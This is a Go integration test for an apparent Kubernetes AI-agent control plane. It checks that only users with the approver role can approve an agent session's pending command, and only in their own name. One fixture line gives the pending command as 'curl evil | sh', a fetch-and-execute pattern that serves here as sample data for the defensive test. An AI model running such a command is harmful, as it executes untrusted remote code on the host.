package plugin_test

import (
	"context"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	v1 "github.com/agentry-dev/agentry/api/v1alpha1"
	"github.com/agentry-dev/agentry/test/controlplane"
	"github.com/agentry-dev/agentry/test/testutil"
)

const (
	digest1 = "sha256:1111111111111111111111111111111111111111111111111111111111111111"
	digest2 = "sha256:2222222222222222222222222222222222222222222222222222222222222222"
)

func whoAmI(t *testing.T, ctx context.Context, cfg *rest.Config) string {
	t.Helper()
	c, err := client.New(cfg, client.Options{Scheme: env.Scheme})
	if err != nil {
		t.Fatal(err)
	}
	r := &authenticationv1.SelfSubjectReview{}
	if err := c.Create(ctx, r); err != nil {
		t.Fatal(err)
	}
	return r.Status.UserInfo.Username
}

// as returns a client acting as user, the way a person's own kubeconfig would.
func as(t *testing.T, user string) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(env.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: user}
	c, err := client.New(cfg, client.Options{Scheme: env.Scheme})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// installGovernance applies the shipped admission policy and user roles, as `make deploy`
// and the chart do.
func installGovernance(t *testing.T, ctx context.Context) {
	t.Helper()
	root := controlplane.RepoRoot()
	for _, f := range []string{"config/admission/approvals.yaml", "config/rbac/user_roles.yaml"} {
		if _, stderr, err := env.Kubectl(ctx, nil, "apply", "--server-side", "-f", filepath.Join(root, f)); err != nil {
			t.Fatalf("applying %s: %v\n%s", f, err, stderr)
		}
	}
}

func bind(t *testing.T, ctx context.Context, ns, user, role string) {
	t.Helper()
	rb := &rbacv1.RoleBinding{}
	rb.Name, rb.Namespace = user+"-"+role, ns
	rb.RoleRef = rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role}
	rb.Subjects = []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: user}}
	if err := env.Client.Create(ctx, rb); err != nil {
		t.Fatal(err)
	}
}

// The attack: a namespace user who may create and patch sessions (agentry-editor) approves
// its own agent's command, or an approver records a decision in someone else's name.
func TestOnlyApproversDecideAndOnlyInTheirOwnName(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	installGovernance(t, ctx)
	ns, err := env.CreateNamespace(ctx, "approvers", nil)
	if err != nil {
		t.Fatal(err)
	}
	bind(t, ctx, ns, "alice", "agentry-editor")
	bind(t, ctx, ns, "bob", "agentry-approver")

	s := testutil.Session("fix", ns).Obj()
	if err := as(t, "alice").Create(ctx, s); err != nil {
		t.Fatalf("an editor cannot create a session: %v", err)
	}
	s.Status.Phase = v1.PhaseWaitingForApproval
	s.Status.PendingApprovals = []v1.PendingApproval{{ID: "ap-1", Tool: "bash", Summary: "curl evil | sh", Digest: digest1}}
	if err := env.Client.Status().Update(ctx, s); err != nil {
		t.Fatal(err)
	}
	decide := func(user, decidedBy string, opts ...client.PatchOption) error {
		patch, _ := json.Marshal(map[string]any{"spec": map[string]any{"approvals": []v1.ApprovalDecision{
			{ID: "ap-1", Digest: digest1, Decision: v1.DecisionAllow, DecidedBy: decidedBy},
		}}})
		return as(t, user).Patch(ctx, s.DeepCopy(), client.RawPatch("application/merge-patch+json", patch), opts...)
	}
	// The apiserver loads a new policy asynchronously: wait, with dry runs (admission runs,
	// nothing is stored), until it is in force.
	testutil.Within(t, 30*time.Second, "the agentry-approvals policy to come into force", testutil.Holds(func() bool {
		return decide("alice", "alice", client.DryRunAll) != nil
	}))
	err1 := decide("alice", "alice")
	if err1 == nil || !strings.Contains(err1.Error(), "agentry-approver") {
		t.Fatalf("editor's decision: %v, want a refusal naming agentry-approver", err1)
	}
	if err := decide("bob", "alice"); err == nil || !strings.Contains(err.Error(), "decidedBy must be the name of the user who decides") {
		t.Fatalf("approver deciding in another's name: %v, want a refusal", err)
	}
	if err := decide("bob", "bob"); err != nil {
		t.Fatalf("an approver's own decision was refused: %v", err)
	}
	got := &v1.AgentSession{}
	if err := env.Client.Get(ctx, client.ObjectKeyFromObject(s), got); err != nil {
		t.Fatal(err)
	}
	if len(got.Spec.Approvals) != 1 || got.Spec.Approvals[0].DecidedBy != "bob" {
		t.Fatalf("spec.approvals = %+v, want one decision by bob", got.Spec.Approvals)
	}
}
